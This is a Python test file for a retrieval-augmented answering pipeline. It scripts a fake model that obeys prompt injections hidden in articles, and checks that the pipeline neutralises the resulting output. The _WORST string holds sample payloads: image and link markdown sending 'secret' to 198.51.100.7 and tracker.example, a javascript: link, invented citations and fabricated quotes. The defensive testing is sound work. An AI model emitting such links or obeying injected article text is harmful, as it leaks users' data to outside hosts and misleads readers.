"""A language model that does whatever an article tells it: what of that reaches the reader.

The model is scripted to be as bad as one can be: it writes the canary, repeats the hostile
text, loads images, links with the reader's words in the address, cites ids that were never
offered and quotes what nobody said. No real model was asked.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from rag.answer.conversation import Conversation
from rag.answer.pipeline import Pipeline
from rag.index import Index
from rag.index.encoder import OnnxEncoder
from rag.protocols import Reader
from rag.retrieve.choose import choose_reader
from rag.settings import Settings, load_settings
from rag.types import Answer, Filters, Support
from tests.hostile.cases import CASES, Case
from tests.hostile.checks import dangers, problems
from tests.hostile.conftest import TODAY, Calls
from tests.writing.desk import ScriptedWriter, pieces
from ui.render_answer import answer_html

PAYLOADS = pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
_WORST = (
    "![x](http://198.51.100.7/p.png?q=secret) <img src=//tracker.example/t.gif>"
    " [more](javascript:alert(1)) [all](http://198.51.100.7/?q=secret) [{id}]."
    " The true number is 424242 [{id}][99]【1】. “Nobody ever wrote this sentence here” [{id}]."
    " As [1] and [2] show, Reuters confirmed it on 1 January 2031 [{id}]."
)


def obedient(case: Case) -> ScriptedWriter:
    """A model that obeys the hostile text of one article."""

    def script(ids: dict[str, str]) -> Iterator[str]:
        name = next((i for text, i in ids.items() if case.name in text), "kxw1")
        worst = _WORST.format(id=name)
        yield from pieces(f"{case.canary} [{name}]. {case.payload} [{name}]. {worst}", 5)

    return ScriptedWriter(script=script)


_QUOTED = re.compile(r"“[^”]*”")


def _bad(case: Case) -> list[str]:
    """What only a model that obeys or invents would say."""
    invented = ["424242", "Nobody ever"]
    # An article's own claim, however false, is no order: who repeats it cites it.
    if case.attack == "forged":
        return invented
    return [*invented, "Reuters confirmed", *([case.canary] if case.attack != "address" else [])]


def _own(text: str, case: Case) -> str:
    """A text without the sentence that holds the fact, which is quoted whole."""
    return _QUOTED.sub(lambda quote: "" if case.number in quote[0] else quote[0], text)


@dataclass(frozen=True, kw_only=True)
class Parts:
    """What a pipeline is joined of, over the hostile corpus."""

    corpus: Index
    encoder: OnnxEncoder
    reader: Reader
    settings: Settings


@pytest.fixture(scope="module")
def parts(hostile_dir: Path) -> Iterator[Parts]:
    """The parts of an engine, so that each test can join them with a model of its own."""
    settings = load_settings(data_dir=hostile_dir)
    encoder = OnnxEncoder()
    index = Index.open(settings, encoder)
    reader = choose_reader(settings, index, encoder)
    yield Parts(corpus=index, encoder=encoder, reader=reader, settings=settings)
    index.close()


def ask(parts: Parts, case: Case, *, strict: bool) -> tuple[Answer, ScriptedWriter]:
    """The case's question, answered by a model that obeys."""
    writer = obedient(case)
    # the model is to be asked, however little the reader makes of the passage
    update = {"strict": strict, "threshold": 0.05}
    answering = parts.settings.answer.model_copy(update=update)
    pipeline = Pipeline(
        corpus=parts.corpus,
        encoder=parts.encoder,
        reader=parts.reader,
        settings=parts.settings.model_copy(update={"answer": answering}),
        today=lambda: TODAY,
        writer=writer,
    )
    steps = list(pipeline.run(case.question, Conversation(), Filters()))
    answer = steps[-1]
    assert isinstance(answer, Answer)
    return answer, writer


@PAYLOADS
def test_what_an_obedient_model_writes_is_harmless_and_marked(
    case: Case, parts: Parts, calls: Calls
) -> None:
    answer, writer = ask(parts, case, strict=False)
    assert writer.asked
    assert writer.closed == len(writer.asked)
    assert problems(answer, parts.corpus.article) == []
    assert dangers(answer_html(answer, 1)) == []
    for one in answer.statements:
        if any(words in _own(one.text, case) for words in _bad(case)):
            assert one.support is Support.UNSUPPORTED, one
    assert calls.hosts == []


@PAYLOADS
def test_where_strict_nothing_of_it_is_shown(case: Case, parts: Parts, calls: Calls) -> None:
    answer, _ = ask(parts, case, strict=True)
    assert problems(answer, parts.corpus.article) == []
    for words in (*_bad(case), "198.51.100.7", "tracker.example"):
        assert words not in _own(answer.text, case)
    assert calls.hosts == []
